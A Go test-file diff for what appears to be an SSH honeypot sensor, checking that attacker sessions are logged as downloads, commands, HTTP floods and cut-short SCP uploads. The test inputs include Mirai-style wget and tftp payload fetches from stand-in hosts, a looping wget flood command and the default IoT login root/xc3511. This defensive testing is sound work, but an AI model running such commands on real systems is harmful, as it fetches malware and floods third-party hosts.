@@ -110,7 +110,8 @@ func TestPasswordLoginAndExec(t *testing.T) {
 	if d := ts.pub.ofKind(event.FileDownload); len(d) != 1 || d[0].URL != "http://198.51.100.7/bins/mirai.arm" || d[0].Tool != "wget" {
 		t.Errorf("downloads %+v", d)
 	}
-	if c := ts.pub.ofKind(event.CommandInput); len(c) != 2 || c[0].Input != "echo hello" || c[0].Output != "hello\n" {
+	// exec is sh -c: the whole text is one command.
+	if c := ts.pub.ofKind(event.CommandInput); len(c) != 1 || c[0].Input != "echo hello\nwget http://198.51.100.7/bins/mirai.arm" || !strings.HasPrefix(string(c[0].Output), "hello\n") {
 		t.Errorf("commands %+v", c)
 	}
 	evs := ts.pub.events()
@@ -261,9 +262,12 @@ func TestCommandLimit(t *testing.T) {
 	lim.MaxCommands = 2
 	ts := startServer(t, DefaultConfig(), lim, "")
 	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
-	out, status := run(t, cl, "echo 1\necho 2\necho 3")
-	if out != "1\n2\n" || status != 1 {
-		t.Errorf("output %q status %d", out, status)
+	if out, status := run(t, cl, "echo 1"); out != "1\n" || status != 0 {
+		t.Errorf("first command: output %q status %d", out, status)
+	}
+	// The last command allowed still gets its answer, then the session ends.
+	if out, status := run(t, cl, "echo 2"); out != "2\n" || status != 1 {
+		t.Errorf("last command: output %q status %d", out, status)
 	}
 	closed := ts.pub.waitKind(t, event.SessionClosed, 1)
 	if closed[0].Message != "command limit" || len(ts.pub.ofKind(event.CommandInput)) != 2 {
@@ -409,4 +413,61 @@ func mustRead(t *testing.T, p string) []byte {
 		t.Fatal(err)
 	}
 	return b
+}
+
+// What the device records of a line is the same on both doors: URLs of
+// commands that did not run (marked), and flood targets as attacks, never
+// as downloads.
+func TestDownloadsAndFloodsAsTelnet(t *testing.T) {
+	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
+	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
+	run(t, cl, "cd /tmp; wget http://198.51.100.1/a.sh || tftp -g -r b.sh 198.51.100.2")
+	run(t, cl, `sh -c "while true; do wget -O /dev/null http://203.0.113.80/; done" &`)
+	cl.Close()
+	ts.pub.waitKind(t, event.SessionClosed, 1)
+	var ran, notRan bool
+	for _, d := range ts.pub.ofKind(event.FileDownload) {
+		if d.URL == "http://198.51.100.1/a.sh" && d.Ran != nil && *d.Ran {
+			ran = true
+		}
+		if strings.Contains(string(d.URL), "198.51.100.2") && d.Ran != nil && !*d.Ran {
+			notRan = true
+		}
+		if strings.Contains(string(d.URL), "203.0.113.80") {
+			t.Errorf("flood target recorded as a download: %+v", d)
+		}
+	}
+	if !ran || !notRan {
+		t.Errorf("downloads %+v: want a.sh ran and the tftp fallback not run", ts.pub.ofKind(event.FileDownload))
+	}
+	floods := ts.pub.ofKind(event.AttackHTTPFlood)
+	if len(floods) != 1 || floods[0].TargetURL != "http://203.0.113.80/" || floods[0].Proto != "ssh" {
+		t.Errorf("attack.http_flood events %+v", floods)
+	}
+}
+
+// An upload cut short by the session's input limit is still recorded.
+func TestSCPUploadCutShort(t *testing.T) {
+	lim := sensor.DefaultLimits()
+	lim.MaxBytesIn = 64 << 10
+	ts := startServer(t, DefaultConfig(), lim, "")
+	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
+	sess, err := cl.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	in, _ := sess.StdinPipe()
+	sess.Stdout = io.Discard
+	if err := sess.Start("scp -t /tmp/big"); err != nil {
+		t.Fatal(err)
+	}
+	io.WriteString(in, "C0755 1000000 big\n")
+	go in.Write(bytes.Repeat([]byte("A"), 1000000)) // the server ends the session midway
+	up := ts.pub.waitKind(t, event.FileUpload, 1)
+	if up[0].Filename != "/tmp/big" || up[0].UploadSize <= 0 || up[0].UploadSize >= 1000000 || !strings.Contains(string(up[0].Message), "incomplete") {
+		t.Errorf("upload %+v", up[0])
+	}
+	if c := ts.pub.waitKind(t, event.SessionClosed, 1); c[0].Message != "input limit" {
+		t.Errorf("close reason %q", c[0].Message)
+	}
 }
